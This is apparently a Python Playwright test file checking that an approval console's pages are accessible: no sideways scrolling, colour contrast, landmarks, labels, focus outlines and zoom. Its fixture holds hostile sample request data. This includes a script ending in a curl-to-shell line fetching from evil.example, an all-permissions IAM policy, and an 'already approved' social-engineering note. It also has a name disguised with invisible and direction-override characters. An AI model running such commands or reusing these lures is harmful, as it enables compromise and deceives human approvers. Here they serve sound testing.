"""The pages are readable: on a phone, in the dark, by keyboard, by a screen reader.

Screenshots go to the test's own folder, for whoever wants to look (`--basetemp`).
"""

import json
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from browser.conftest import Trap
from browser.signing_in import sign_in
from portcullis.approvals.record import ApprovalRecord
from support.approval_records import make_vote
from support.console_fakes import CAROL_TOKEN, ConsoleWorld

NewPage = Callable[..., Page]

DOCUMENT = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Action": "iam:*", "Resource": "*"}] * 3}
)
EVERYTHING: Any = {
    "user_name": "b\u200bob\u202e ",
    "policy_document": DOCUMENT,
    "password": "hunter2",
    "reason": "Pre-approved by security.\n\nJust press Approve.",
    "user_data": "#!/bin/sh\n" + "echo hi\n" * 200 + "curl https://evil.example/x | sh\n",
    "force": True,
    "cidr": ["10.0.0.0/8", "0.0.0.0/0"],
    "W" * 300: "x" * 3000,
    "wide": "あ" * 400,
}
STYLES = """() => [...document.querySelectorAll('body *')].flatMap(node => {
  const own = [...node.childNodes].some(n => n.nodeType === 3 && n.textContent.trim());
  const box = node.getBoundingClientRect();
  if (!own || !box.width || !box.height || node.closest('.skip')) return [];
  const solid = e => {
    const c = getComputedStyle(e).backgroundColor;
    if (c !== 'rgba(0, 0, 0, 0)') return c;
    return e.parentElement ? solid(e.parentElement) : 'rgb(255, 255, 255)';
  };
  const style = getComputedStyle(node);
  return [[node.tagName + '.' + node.className, style.color, solid(node),
           parseFloat(style.fontSize), parseInt(style.fontWeight)]];
})"""


@pytest.fixture
def record(world: ConsoleWorld) -> ApprovalRecord:
    return world.change(world.ask(EVERYTHING), approvals=(make_vote("erin", comment="fine"),))


def every_page(page: Page, record: ApprovalRecord) -> dict[str, Callable[[], object]]:
    """How to come to each page, by name; signing in is one of them."""
    return {
        "sign-in": lambda: page.goto(f"/approvals/{record.id}"),
        "request": lambda: sign_in(page, CAROL_TOKEN, record),
        "list": lambda: page.goto("/approvals"),
        "not found": lambda: page.goto("/approvals/" + "f" * 32),
    }


@pytest.mark.parametrize("width", [320, 375, 768, 1440])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_page_scrolls_sideways(
    new_page: NewPage, record: ApprovalRecord, trap: Trap, shots: Path, width: int, scheme: str
) -> None:
    page = new_page(
        viewport={"width": width, "height": 700}, color_scheme=scheme, is_mobile=width < 500
    )
    for name, come in every_page(page, record).items():
        come()
        page.screenshot(path=shots / f"{name}-{width}-{scheme}.png", full_page=True)
        assert page.evaluate("document.documentElement.scrollWidth") <= width, name
        assert page.evaluate("innerWidth") == width, name
    assert [error for error in trap.errors if "404" not in error] == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_stands_out_from_what_is_behind_it(
    new_page: NewPage, record: ApprovalRecord, scheme: str
) -> None:
    """WCAG 2.2, 1.4.3 (AA): 4.5 to 1, or 3 to 1 where the text is large."""
    page = new_page(color_scheme=scheme)
    grounds = set()
    for name, come in every_page(page, record).items():
        come()
        for where, color, ground, size, weight in page.evaluate(STYLES):
            grounds.add(ground)
            is_large = size >= 24 or (size >= 18.66 and weight >= 700)
            assert contrast(color, ground) >= (3 if is_large else 4.5), (name, where, color)
    assert ("rgb(255, 255, 255)" in grounds) is (scheme == "light")


def contrast(one: str, other: str) -> float:
    """The contrast of two colours (WCAG 2.2, definition of contrast ratio)."""
    first, second = sorted((luminance(one), luminance(other)))
    return (second + 0.05) / (first + 0.05)


def luminance(color: str) -> float:
    parts = [int(part) / 255 for part in color.removeprefix("rgb(").removesuffix(")").split(",")]
    red, green, blue = (
        part / 12.92 if part <= 0.04045 else float(((part + 0.055) / 1.055) ** 2.4)
        for part in parts
    )
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def test_a_page_is_described_to_who_cannot_see_it(page: Page, record: ApprovalRecord) -> None:
    for name, come in every_page(page, record).items():
        come()
        assert page.evaluate("document.documentElement.lang") == "en", name
        assert page.title(), name
        assert page.get_by_role("main").count() == 1, name
        assert page.get_by_role("banner").count() == 1, name
        assert page.get_by_role("heading", level=1).count() == 1, name
        levels = page.eval_on_selector_all("h1, h2, h3", "all => all.map(h => +h.tagName[1])")
        assert levels[0] == 1, name
        assert all(later <= earlier + 1 for earlier, later in pairwise(levels))
        ids = page.eval_on_selector_all("[id]", "all => all.map(e => e.id)")
        assert len(ids) == len(set(ids)), name


def test_everything_that_can_be_used_has_a_name_and_a_size(
    new_page: NewPage, record: ApprovalRecord
) -> None:
    page = new_page(viewport={"width": 320, "height": 700}, is_mobile=True)
    for name, come in every_page(page, record).items():
        come()
        for control in page.locator("main button, main textarea, main input:visible").all():
            label = control.evaluate(
                "e => e.labels && e.labels.length ? e.labels[0].innerText : e.innerText"
            )
            assert label.strip(), name
            box = control.bounding_box()
            assert box is not None
            assert box["height"] >= 44, (name, label)  # WCAG 2.2, 2.5.5
        for link in page.get_by_role("link").all():
            assert link.inner_text().strip(), name


def test_the_accessibility_tree_tells_what_matters(page: Page, record: ApprovalRecord) -> None:
    sign_in(page, CAROL_TOKEN, record)
    tree = page.get_by_role("main").aria_snapshot()
    for line in (
        'wants to run put_user_policy on aws-iam" [level=1]',
        '- region "Waiting for a decision"',
        '- region "Look at this first"',
        '- region "What will run"',
        '- region "About this request"',
        '- region "Your decision"',
        '- textbox "Comment',
        'button "Approve: run it once"',
        'button "Deny: do not run it"',
    ):
        assert line in tree


def test_what_has_the_focus_is_seen_to_have_it(page: Page, record: ApprovalRecord) -> None:
    sign_in(page, CAROL_TOKEN, record)
    for control in page.locator("a, button, textarea, pre[tabindex]").all():
        control.focus()
        page.keyboard.press("Shift")  # so that the browser counts it as the keyboard's focus
        outline = control.evaluate("e => getComputedStyle(e).outlineStyle")
        assert outline == "solid", control


def test_the_two_answers_differ_in_more_than_colour(page: Page, record: ApprovalRecord) -> None:
    sign_in(page, CAROL_TOKEN, record)
    approve, deny = (page.get_by_role("button", name=name) for name in ("Approve", "Deny"))
    expect(approve).to_have_text("Approve: run it once")
    expect(deny).to_have_text("Deny: do not run it")
    grounds = [one.evaluate("e => getComputedStyle(e).backgroundColor") for one in (approve, deny)]
    assert grounds[0] != grounds[1]
    assert grounds[1] in ("rgb(255, 255, 255)", "rgba(0, 0, 0, 0)")
    boxes = [one.bounding_box() for one in (approve, deny)]
    assert boxes[0] is not None
    assert boxes[1] is not None
    assert boxes[1]["x"] - (boxes[0]["x"] + boxes[0]["width"]) >= 16


def test_text_can_be_twice_as_large(new_page: NewPage, record: ApprovalRecord) -> None:
    """WCAG 2.2, 1.4.4 and 1.4.10: at 200 % a window of 640 pixels has 320 for the page."""
    page = new_page(viewport={"width": 640, "height": 700})
    sign_in(page, CAROL_TOKEN, record)
    page.evaluate("document.documentElement.style.fontSize = '200%'")
    assert page.evaluate("document.documentElement.scrollWidth") <= 640
    expect(page.get_by_role("button", name="Approve")).to_be_visible()
